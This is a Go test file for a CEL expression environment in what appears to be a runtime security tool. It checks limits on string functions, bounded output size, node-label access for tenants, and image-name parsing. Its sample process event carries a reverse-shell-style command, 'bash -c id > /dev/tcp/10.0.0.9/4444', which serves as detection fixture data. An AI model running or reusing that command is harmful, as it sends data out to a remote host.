package celenv

import (
	"errors"
	"strings"
	"testing"
)

func TestGrowingFunctions(t *testing.T) {
	for _, tt := range []struct{ src, want, refused string }{
		{`process.exe.replace('/usr/bin/', '').replace('a', 'b')`, "", "replace cannot be used inside replace"},
		{`process.args.join(process.exe)`, "", "what join puts in must be written out"},
		{`process.name.replace('a', '` + strings.Repeat("x", 65) + `')`, "", "has 65 bytes; at most 64"},
		{`process.name.replace(process.exe, 'x')`, "", "must be written out"},
		{`process.name.format([1])`, "", "format takes a text in quotes"},
		{`'%s %s'.format([process.name])`, "", "2 verbs and is given 1"},
		{`'%.1000f'.format([1.0])`, "", "precision of at most two digits"},
		{`'%s'.format([process.args.join('-')])`, "", "join cannot be used inside format"},
		{strings.Repeat(`process.args.join(',') + `, 8) + `process.args.join(',')`, "", "more than 8 times"},

		{`process.exe.replace('/usr/bin/', '')`, "bash", ""},
		{`process.args.join(', ')`, "bash, -c, id > /dev/tcp/10.0.0.9/4444", ""},
		{`process.args.join()`, "bash-cid > /dev/tcp/10.0.0.9/4444", ""},
		{`process.exe.split('/')[2] + process.exe.split('/', 2)[1]`, "binusr/bin/bash", ""},
		{`process.name.reverse()`, "hsab", ""},
		{`'%s runs as %d, 100%% %s'.format([parent.name, process.uid, process.args.size() > 1])`, "nginx runs as 1000, 100% true", ""},
		{`pod.labels[?'nope'].or(pod.labels[?'app']).orValue('')`, "web", ""},
		{`pod.labels[?'app'].value()`, "web", ""},
		{`container.imageRepository + '|' + container.imageTag`, "alpine|3", ""},
	} {
		s := newScope(t)
		x, err := s.Message(tt.src)
		var errs Errors
		switch {
		case tt.refused != "" && (!errors.As(err, &errs) || !strings.Contains(err.Error(), tt.refused)):
			t.Errorf("%.60s: error %v, want %q", tt.src, err, tt.refused)
			continue
		case tt.refused != "":
			continue
		case err != nil:
			t.Errorf("%.60s: %v", tt.src, err)
			continue
		}
		a := s.env.NewActivation("n1")
		a.Reset(exec(shell()))
		if got, ok := x.Text(a); !ok || got != tt.want {
			t.Errorf("%s: got %q, %v, want %q", tt.src, got, ok, tt.want)
		}
	}
}

// What the worst of an event makes of the functions that make texts longer
// stays within a few megabytes.
func TestGrowthIsBounded(t *testing.T) {
	p := shell()
	p.Cmdline = strings.Repeat("a", 200<<10)
	p.CmdlineLen = uint32(len(p.Cmdline))
	s := newScope(t)
	filler := strings.Repeat("x", maxFiller)
	for _, src := range []string{
		strings.TrimSuffix(strings.Repeat(`process.cmdline.replace('a', '`+filler+`') + `, maxGrowing), " + "),
		strings.TrimSuffix(strings.Repeat(`process.cmdline.split('').join('`+filler+`') + `, maxGrowing), " + "),
		strings.TrimSuffix(strings.Repeat(`process.cmdline.replace('', '`+filler+`') + `, maxGrowing), " + "),
	} {
		x, err := s.Message(src)
		if err != nil {
			t.Fatal(err)
		}
		a := s.env.NewActivation("")
		a.Reset(exec(p))
		got, ok := x.Text(a)
		if limit := maxGrowing * (maxFiller + 1) * (MaxText + 100); !ok || len(got) > limit {
			t.Errorf("%.60s: %d bytes (%v), more than %d", src, len(got), ok, limit)
		}
	}
}

func TestNodeLabels(t *testing.T) {
	s := newScope(t)
	x, err := s.Condition(`node.labels[?'zone'].orValue('') == 'a'`)
	if err != nil {
		t.Fatal(err)
	}
	a := s.env.NewActivation("n1")
	for _, tt := range []struct {
		labels map[string]string
		want   Truth
	}{{nil, Undecided}, {map[string]string{}, False}, {map[string]string{"zone": "a"}, True}} {
		a.SetNodeLabels(tt.labels)
		a.Reset(exec(shell()))
		if got, _ := x.Truth(a); got != tt.want {
			t.Errorf("labels %v: got %v, want %v", tt.labels, got, tt.want)
		}
	}
	tenant, err := s.env.NewTenantScope(nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tenant.Condition(`node.labels.size() > 0`); err == nil {
		t.Error("a tenant may ask for the node's labels")
	}
}

func TestSplitImage(t *testing.T) {
	for _, tt := range []struct{ image, repository, tag string }{
		{"", "", ""}, {"alpine", "alpine", ""}, {"alpine:3", "alpine", "3"}, {"r:5000/a/b", "r:5000/a/b", ""}, {"r:5000/a/b:v1", "r:5000/a/b", "v1"},
		{"a@sha256:00", "a", ""}, {"r/a:1@sha256:00", "r/a", "1"}, {"a:", "a", ""},
	} {
		if repository, tag := splitImage(tt.image); repository != tt.repository || tag != tt.tag {
			t.Errorf("%q: got %q, %q, want %q, %q", tt.image, repository, tag, tt.repository, tt.tag)
		}
	}
}
